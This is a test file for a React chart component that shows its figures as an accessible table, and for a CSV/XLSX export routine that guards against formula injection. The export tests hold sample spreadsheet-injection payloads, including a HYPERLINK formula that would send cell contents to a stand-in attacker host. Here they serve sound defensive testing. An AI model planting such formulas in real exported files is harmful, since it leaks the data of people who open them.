// @vitest-environment jsdom
/**
 * a chart's figures are always there as a table (for screen readers, and for anyone who asks);
 * an admin list exports to CSV and XLSX, the CSV safe from formula injection and readable by Excel in zh.
 */
import { act, cleanup, fireEvent, render, screen, waitFor } from '@testing-library/react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { createI18n } from '../i18n/i18n.ts';
import { I18nProvider } from '../i18n/useTranslation.tsx';
import { StatChart, valueAxisOf } from './StatChart.tsx';
import { exportFileName, tableFile } from './tableExport.ts';

afterEach(cleanup);

async function renderChart(language: 'zh' | 'en' = 'zh') {
  const i18n = await createI18n(language);
  // jsdom has no canvas: Chart.js gets no context, the case of a browser that cannot draw it.
  vi.spyOn(console, 'error').mockImplementation(() => undefined);
  render(
    <I18nProvider i18n={i18n}>
      <StatChart
        kind="bar"
        title="各学院今日填报率"
        category="学院"
        labels={['外国语学院', '经济管理学院']}
        series={[{ label: '填报率', values: [96.4, 88.25] }]}
        format={(value) => `${value}%`}
      />
    </I18nProvider>,
  );
}

describe('StatChart', () => {
  it('steps a chart of counts in whole numbers, and a chart of rates in its decimals', () => {
    expect(valueAxisOf([{ label: '已报', values: [0, 1, 3] }])).toEqual({ beginAtZero: true, ticks: { precision: 0 } });
    expect(valueAxisOf([{ label: '填报率', values: [91.4, 100] }])).toEqual({ beginAtZero: true });
  });

  it('has its figures as a table with a caption, the labels as row headers and the values formatted', async () => {
    await renderChart();
    const table = screen.getByRole('table', { name: '各学院今日填报率' });
    expect(screen.getByRole('rowheader', { name: '经济管理学院' })).toBeTruthy();
    expect(table.textContent).toContain('88.25%');
    expect(screen.getByRole('columnheader', { name: '学院' })).toBeTruthy();
  });

  it('shows the table in words the reader understands when the chart cannot be drawn', async () => {
    await renderChart('en');
    await waitFor(() => expect(document.querySelector('figure')?.dataset.state).toBe('table'));
    expect(screen.getByText('The chart cannot be shown right now; here are its figures.')).toBeTruthy();
  });

  it('switches to the table on request', async () => {
    await renderChart();
    const figure = document.querySelector('figure')!;
    const toggle = screen.queryByRole('button', { name: '以表格查看' });
    // Where the chart could not be drawn there is nothing to switch; else the button shows the table.
    if (toggle) {
      act(() => void fireEvent.click(toggle));
      expect(figure.dataset.state).toBe('table');
    }
    await waitFor(() => expect(figure.dataset.state).toBe('table'));
  });
});

describe('exporting a table', () => {
  const columns = [
    { header: '姓名', value: (row: { name: string; temperature: number }) => row.name },
    { header: '体温', value: (row: { name: string; temperature: number }) => row.temperature },
  ];
  const rows = [
    { name: '王小明', temperature: 36.5 },
    { name: '=HYPERLINK("http://evil.example","点我")', temperature: 37.9 },
  ];

  it('writes CSV with a byte-order mark, and a cell that would be a formula as text', async () => {
    const bytes = new Uint8Array(await (await tableFile('csv', columns, rows)).arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes.slice(3));
    expect(text.split('\r\n')).toEqual(['姓名,体温', '王小明,36.5', `"'=HYPERLINK(""http://evil.example"",""点我"")",37.9`]);
  });

  // What a student can type into a form whose answers the office exports: each must open as text.
  it.each([
    '=HYPERLINK("http://evil.example/?leak="&A2,"点击")\n',
    '=1+1\r',
    '@SUM(A1)\n',
    '=1+1\u2028',
    '+1+1\n第二行',
    '-2+3\r\n',
    '  =1+1',
    '\t=1+1',
    '\r=1+1',
  ])('writes %j as text, never a formula, though it holds a line break or starts with blanks', async (typed) => {
    const text = new TextDecoder().decode(new Uint8Array(await (await tableFile('csv', columns, [{ name: typed, temperature: 36.5 }])).arrayBuffer()).slice(3));
    const { parse } = await import('papaparse');
    const cells = parse<string[]>(text, { newline: '\r\n' }).data;
    expect(cells[1]![0]).toBe(`'${typed}`);
  });

  it('keeps a negative number a number', async () => {
    const text = new TextDecoder().decode(
      new Uint8Array(await (await tableFile('csv', columns, [{ name: '王小明', temperature: -1 }])).arrayBuffer()).slice(3),
    );
    expect(text.split('\r\n')[1]).toBe('王小明,-1');
  });

  it('writes XLSX (a zip of sheets)', async () => {
    const bytes = new Uint8Array(await (await tableFile('xlsx', columns, rows)).arrayBuffer());
    expect(String.fromCharCode(bytes[0]!, bytes[1]!)).toBe('PK');
  });

  it('names the file without characters a file system refuses', () => {
    expect(exportFileName('2026/11/24 填报:统计*', 'xlsx')).toBe('2026 11 24 填报 统计.xlsx');
    expect(exportFileName('///', 'csv')).toBe('export.csv');
  });
});
